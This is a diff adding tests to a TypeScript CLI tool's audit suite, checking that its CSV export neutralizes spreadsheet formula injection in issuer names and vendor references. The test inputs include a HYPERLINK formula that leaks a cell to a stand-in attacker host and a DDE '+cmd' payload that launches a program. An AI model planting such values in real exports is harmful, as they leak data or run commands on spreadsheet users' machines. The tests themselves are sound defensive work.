@@ -9,6 +9,7 @@ import { hashPassphrase } from '../../src/ledger/secrets.js';
 import { PASSPHRASE, setupHome, type Home } from '../helpers/e2e.js';
 import { allowedId, dbState, PAY, req } from '../helpers/ledger.js';
 import { parseJson, runCli } from '../helpers/cli.js';
+import { CsvNumber, csvLine } from '../../src/cli/io.js';
 import { expectMoneyFields } from './money-fields.js';
 
 let h: Home;
@@ -113,6 +114,60 @@ describe('runcap audit', () => {
     const denied = rows.find((x) => x[col('event')] === 'approval_denied')!;
     expect(JSON.parse(denied[col('details')]!)).toMatchObject({ by: 'ops', reason: 'too "much", sorry\nreally' });
     expect(r.stdout).toContain('"pi_ref,with ""quotes"""');
+  });
+
+  it("--csv neutralizes text a spreadsheet would run as a formula (=, +, -, @, tab, CR first: quoted, prefixed with '); amounts stay plain numbers", async () => {
+    // issuer names and vendor references are free text (--by, the vendor's answer); a label starts with a letter or digit
+    const issue = async (label: string, issuedBy: string) => (await h.guard.ledger.issueKey({ label, policy: { allow: ['*'] }, issuedBy })).key;
+    const minus = await issue('formula-minus', '-2+3');
+    const at = await issue('formula-at', '@SUM(A1:A9)');
+    const eq = await issue('formula-eq', '=HYPERLINK("http://evil.example/?leak="&A1,"open")');
+    expect((await h.guard.verify(minus, { action: 'deploy_staging', amountUsd: 1.25 })).allowed).toBe(true);
+    const settle = async (key: string, micros: number, vendorRef: string) => {
+      const r = await h.guard.ledger.authorize(req(key, PAY, micros));
+      if (!r.allowed) throw new Error(r.message);
+      await h.guard.ledger.settle(r.reservationId, micros, vendorRef);
+    };
+    await settle(at, 3_000_000, '+cmd|" /C calc"!A0');
+    await settle(eq, 1_000_000, '\t=1+1');
+    await settle(eq, 1_000_000, '\r=1+1');
+
+    const r = await runCli(h.home, ['audit', '--csv']);
+    expect(r.code, r.stderr).toBe(0);
+    const rows = parseCsv(r.stdout);
+    const head = rows[0]!;
+    const col = (name: string) => head.indexOf(name);
+    const of = (label: string, event: string) => rows.filter((x) => x[col('label')] === label && x[col('event')] === event);
+    const verified = of('formula-minus', 'verified')[0]!;
+    expect(verified[col('issuer')]).toBe("'-2+3");
+    expect(of('formula-at', 'settled').map((x) => [x[col('issuer')], x[col('vendor_ref')]])).toEqual([["'@SUM(A1:A9)", "'+cmd|\" /C calc\"!A0"]]);
+    // a tab is kept (and neutralized), a carriage return is removed like every control character, which leaves "=" first (neutralized)
+    expect(of('formula-eq', 'settled').map((x) => [x[col('issuer')], x[col('vendor_ref')]])).toEqual([
+      ["'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"open\")", "'\t=1+1"],
+      ["'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"open\")", "'=1+1"],
+    ]);
+    // no text cell of any row starts a formula
+    const numeric = [col('seq'), col('amount_usd'), col('amount_micros')];
+    for (const row of rows.slice(1)) {
+      for (const [i, cell] of row.entries()) if (!numeric.includes(i)) expect(cell, `${head[i]} of ${row.join(',')}`).not.toMatch(/^[=+\-@\t\r]/);
+    }
+    // the neutralized cells are quoted in the file itself
+    expect(r.stdout).toContain(`,"'-2+3",`);
+    expect(r.stdout).toContain(`,"'@SUM(A1:A9)",`);
+    expect(r.stdout).toContain(`,"'\t=1+1",`);
+    // amounts runcap wrote itself stay bare numbers: unquoted, no '
+    expect([verified[col('amount_usd')], verified[col('amount_micros')]]).toEqual(['1.25', '1250000']);
+    expect(of('formula-at', 'settled').map((x) => [x[col('amount_usd')], x[col('amount_micros')]])).toEqual([['3.00', '3000000']]);
+    expect(r.stdout).toMatch(/,1\.25,1250000,/);
+    expect(r.stdout).toMatch(/,3\.00,3000000,/);
+  });
+
+  it('csvLine: numbers runcap writes (a negative correction included) stay numbers, any text is neutralized', () => {
+    expect(csvLine([-1_500_000, new CsvNumber('-1.50'), new CsvNumber('0.0083'), 7, '-1.50', '@x', '=1', '+1', '\tx', '\rx', 'plain', '', null])).toBe(
+      `-1500000,-1.50,0.0083,7,"'-1.50","'@x","'=1","'+1","'\tx","'\rx",plain,,\r\n`,
+    );
+    expect(csvLine(['-"quoted", and more'])).toBe(`"'-""quoted"", and more"\r\n`);
+    expect(() => new CsvNumber('=1+1')).toThrow();
   });
 
   it('bad times and flags are usage errors (exit 2), unknown keys or labels simply match nothing', async () => {
